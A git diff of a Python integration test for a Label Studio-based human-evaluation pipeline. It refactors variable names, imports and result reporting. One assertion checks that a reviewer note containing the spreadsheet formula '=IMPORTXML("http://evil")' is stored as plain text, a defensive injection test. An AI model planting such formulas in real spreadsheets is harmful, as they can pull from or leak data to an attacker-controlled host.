@@ -22,7 +22,7 @@ from instruct_global.assets.human_eval import human_eval_scores, human_eval_shee
 from instruct_global.assets.train import finetuned_model
 from instruct_global.assets.translate import review_sheet, reviewed_instructions
 from instruct_global.lib.evaluate.human_eval import VerdictStore
-from instruct_global.lib.evaluate.human_eval_stats import wilson_interval
+from instruct_global.lib.evaluate.human_eval_stats import markdown_scores, wilson_interval
 from instruct_global.lib.evaluate.label_studio import EVAL_KIND, REVIEW_KIND
 from instruct_global.lib.evaluate.label_studio_api import LabelStudioClient, LabelStudioError
 from instruct_global.lib.translate.review_sheet import ReviewStore, read_returned_sheet
@@ -33,7 +33,11 @@ from instruct_global.resources.parquet_io import PartitionedParquetIOManager
 from instruct_global.sensors import label_studio_sensor
 from instruct_global_tests.assets.test_human_eval_assets import _config, _resources, instruction_dataset
 from instruct_global_tests.fixtures.instruction_rows import contract_rows
-from instruct_global_tests.fixtures.label_studio_server import LabelStudioServer, label_studio_server  # noqa: F401
+from instruct_global_tests.fixtures.label_studio_server import (  # noqa: F401 (the fixture)
+    LabelStudioServer,
+    label_studio_server,
+    report,
+)
 from instruct_global_tests.fixtures.tiny_causal_lm import build_tiny_causal_lm
 
 pytestmark = [pytest.mark.labelstudio, pytest.mark.slow]
@@ -63,7 +67,7 @@ def _text(name: str, to_name: str, value: str) -> dict:
 
 
 def test_evaluation_round_through_label_studio(label_studio_server: LabelStudioServer, tmp_path: Path,  # noqa: F811
-                                               data_dir: Path) -> None:  # fmt: skip
+                                               data_dir: Path, request: pytest.FixtureRequest) -> None:  # fmt: skip
     server = label_studio_server
     tiny_lm = build_tiny_causal_lm(tmp_path / "tiny_lm")
     bank = tmp_path / "bank.csv"
@@ -110,11 +114,11 @@ def test_evaluation_round_through_label_studio(label_studio_server: LabelStudioS
     # the next tick pulls them into a returned sheet and asks for the run that scores it
     requests, cursor = _tick(server, cursor)
     assert isinstance(requests, list) and len(requests) == 1
-    request = requests[0]
-    assert request.partition_key == "yor" and request.tags["instruct_global/label_studio_round"] == "human_eval"
-    pulled = Path(request.run_config["ops"]["human_eval_scores"]["config"]["returned_sheet"])
+    run = requests[0]
+    assert run.partition_key == "yor" and run.tags["instruct_global/label_studio_round"] == "human_eval"
+    pulled = Path(run.run_config["ops"]["human_eval_scores"]["config"]["returned_sheet"])
     assert pulled.parent == data_dir / "human_eval" / "label_studio" and len(read_returned_sheet(pulled)) == n + 4
-    scored = materialize(assets, partition_key="yor", resources=resources, run_config=request.run_config,
+    scored = materialize(assets, partition_key="yor", resources=resources, run_config=run.run_config,
                          selection=["human_eval_scores"])  # fmt: skip
     assert scored.success and not pulled.exists()  # applied and archived, like a returned sheet
     row = pd.read_parquet(data_dir / "human_eval_scores" / "yor.parquet").iloc[0]
@@ -128,7 +132,7 @@ def test_evaluation_round_through_label_studio(label_studio_server: LabelStudioS
     assert {v.reviewer for v in stored.values()} == {"ada@reviewers.test", "bo@reviewers.test"}
     assert stored[(order[2], "ada@reviewers.test")].note == '=IMPORTXML("http://evil")'
     table_md = scored.asset_materializations_for_node("human_eval_scores")[0].metadata["table"].value
-    print("\nLabel Studio round 1 (two reviewers):\n" + table_md)
+    report(request.config, "\nhuman_eval_scores after Label Studio round 1 (ada and bo):\n" + table_md)
 
     # nothing new: no run; ada then changes her mind on row 0 (loss -> win): only that annotation comes
     idle, cursor = _tick(server, cursor)
@@ -141,7 +145,7 @@ def test_evaluation_round_through_label_studio(label_studio_server: LabelStudioS
                        selection=["human_eval_scores"]).success  # fmt: skip
     row = pd.read_parquet(data_dir / "human_eval_scores" / "yor.parquet").iloc[0]
     assert (row.wins, row.ties, row.losses) == (n - 2, 2, 0)
-    print("\nLabel Studio round 2 (ada changed row 0 to a win):\n" + markdown_of(data_dir))
+    report(request.config, "\nafter round 2 (ada changed one verdict from loss to win):\n" + markdown_of(data_dir))
 
     # a new sheet leaves the judged rows out; pushing it imports nothing (every row is known already)
     assert materialize(assets[:4], partition_key="yor", resources=resources, selection=["human_eval_sheet"],
@@ -154,8 +158,6 @@ def test_evaluation_round_through_label_studio(label_studio_server: LabelStudioS
 
 
 def markdown_of(data_dir: Path) -> str:
-    from instruct_global.lib.evaluate.human_eval_stats import markdown_scores
-
     return markdown_scores(pd.read_parquet(data_dir / "human_eval_scores" / "yor.parquet"))
 
 
